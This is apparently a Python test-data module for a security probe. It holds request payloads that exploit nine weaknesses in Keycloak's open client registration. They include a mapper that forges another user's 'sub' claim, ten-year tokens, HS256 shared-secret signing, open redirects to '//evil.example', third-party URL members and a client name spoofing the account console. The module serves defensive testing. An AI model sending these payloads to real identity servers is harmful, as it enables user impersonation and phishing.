"""Requests that exploit weaknesses S1 to S9, as data shared by the tests and the probe.

Each was reproduced on Keycloak 26.7.5 with open registration as tutorials configure it; docs/keycloak.md says what an
attacker gains. A "client representation" is Keycloak's own format, which the endpoint `default` accepts; the
others are registrations according to RFC 7591. The third-party host ends with `invalid` (RFC 2606), so it never
resolves.
"""

from __future__ import annotations

from typing import Any

from mcp_idp.cli.bootstrap.keycloak.resources.service_clients import CLIENT_CREDENTIALS

Json = dict[str, Any]

REDIRECT = "http://127.0.0.1:33333/callback"
THIRD_PARTY_URL = "https://probe.invalid/x"

# S1
SERVICE_CLIENT: Json = {
    "redirect_uris": [REDIRECT],
    "grant_types": [CLIENT_CREDENTIALS],
    "token_endpoint_auth_method": "client_secret_post",
}
# S3: another user's `sub`, from a profile attribute that every user may edit
SUB_FORGING_MAPPER: Json = {
    "name": "sub",
    "protocol": "openid-connect",
    "protocolMapper": "oidc-usermodel-property-mapper",
    "config": {"user.attribute": "firstName", "claim.name": "sub", "access.token.claim": "true"},
}
TEN_YEAR_LIFETIME: Json = {"access.token.lifespan": "315360000"}  # S4, in seconds
SHARED_SECRET: Json = {"access.token.signed.response.alg": "HS256"}  # S5
RELATIVE_REDIRECTS = ("/callback", "callback", "//evil.example/callback", "/*")  # S6
# S7: registration members that contain a URL or a list of URLs
URL_MEMBERS = (
    "logo_uri",
    "tos_uri",
    "policy_uri",
    "jwks_uri",
    "sector_identifier_uri",
    "backchannel_logout_uri",
    "request_uris",
    "post_logout_redirect_uris",
    "frontchannel_logout_uri",
    "backchannel_client_notification_endpoint",
    "client_uri",
)
SPOOFED_NAME = "${client_account}"  # S8: Keycloak displays it as the localized name of its own account console
IMPLICIT_TYPES = ("token", "id_token token", "code token")  # S9


def client_representation(client_id: str, **members: object) -> Json:
    """Builds a client in Keycloak's own representation.

    Args:
        client_id: the id that the sender chooses.
        members: further members of the representation.
    """
    return {"clientId": client_id, "publicClient": True, "redirectUris": [REDIRECT], **members}


def native(**members: object) -> Json:
    """Builds a registration as native applications send it, with further `members`."""
    return {"redirect_uris": [REDIRECT], "token_endpoint_auth_method": "none", **members}


def with_third_party_url(member: str) -> Json:
    """Builds a registration that has a third-party URL in `member`."""
    return native(**{member: [THIRD_PARTY_URL] if member.endswith("uris") else THIRD_PARTY_URL})
